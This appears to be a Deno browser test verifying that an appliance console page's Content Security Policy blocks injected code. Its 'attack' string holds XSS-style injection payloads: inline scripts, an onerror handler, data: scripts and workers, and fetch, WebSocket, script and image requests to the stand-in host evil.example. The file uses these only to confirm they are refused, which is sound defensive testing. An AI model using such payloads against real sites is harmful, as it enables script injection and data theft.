/** The policy of the console's page, kept by Chromium: what an attacker would put into the page does nothing. */
import { assertEquals } from "@std/assert";
import { startAppliance } from "../kit/appliance.ts";
import { defaultWeb } from "../../mod.ts";
import { ignore, openConsole, shown } from "./page.ts";

/** Tries what injected code would; comes back with what it got, and which rules were broken. */
const attack = `(async () => {
  const broken = [];
  addEventListener("securitypolicyviolation", (event) => broken.push(event.effectiveDirective));
  const put = (name, properties) =>
    document.body.appendChild(Object.assign(document.createElement(name), properties));
  put("script", { textContent: "window.inline = true" });
  put("div", { innerHTML: '<img src="x" onerror="window.handler = true">' });
  put("script", { src: "https://evil.example/x.js" });
  put("script", { src: "data:text/javascript,window.data = true" });
  put("object", { data: "/console/icon.svg" });
  put("iframe", { src: "https://evil.example/" });
  put("base", { href: "https://evil.example/" });
  put("img", { src: "https://evil.example/steal.png" });
  const got = {};
  // what DevTools evaluates may eval; what the page does later may not
  await new Promise((done) => setTimeout(() => {
    try { got.eval = eval("1 + 1"); } catch (error) { got.eval = error.name; }
    try { got.function = new Function("return 1")(); } catch (error) { got.function = error.name; }
    done();
  }, 0));
  got.fetch = await fetch("https://evil.example/").then(() => "out", (error) => error.name);
  try {
    new WebSocket("wss://evil.example/");
    await new Promise((wake) => setTimeout(wake, 100));
  } catch (error) { got.socket = error.name; }
  got.worker = await new Promise((done) => {
    try {
      const worker = new Worker("data:text/javascript,postMessage(1)");
      worker.onmessage = () => done("ran");
      worker.onerror = () => done("refused");
    } catch (error) { done("refused"); }
  });
  await new Promise((wake) => setTimeout(wake, 500));
  return { got, broken: [...new Set(broken)].sort(), ran: [window.inline, window.handler, window.data] };
})()`;

Deno.test({
  name:
    "injected code, frames, requests and workers do nothing in the console's page, and the page needs none",
  ignore,
  async fn() {
    await using served = await startAppliance({ web: { ...defaultWeb, port: 0 } });
    await using browser = await openConsole(served.appliance.console!);
    await browser.evaluate(
      `void addEventListener("securitypolicyviolation", (e) => (window.own ??= []).push(e.blockedURI))`,
    );
    await shown(browser);
    const origins = await browser.evaluate(
      `[...new Set(performance.getEntriesByType("resource").map(({ name }) => new URL(name).origin))]`,
    );
    assertEquals(origins, [new URL(served.appliance.console!).origin], "no third party");
    assertEquals(await browser.evaluate("window.own ?? []"), [], "the page keeps its own policy");
    const { got, broken, ran } = await browser.evaluate(attack);
    assertEquals(ran, [null, null, null]);
    assertEquals(got, {
      eval: "EvalError",
      function: "EvalError",
      fetch: "TypeError",
      worker: "refused",
    });
    for (const rule of ["script-src-elem", "script-src-attr", "connect-src", "img-src"]) {
      assertEquals(broken.includes(rule), true, `${rule} of ${broken}`);
    }
    assertEquals(broken.includes("base-uri") && broken.includes("frame-src"), true, `${broken}`);
  },
});
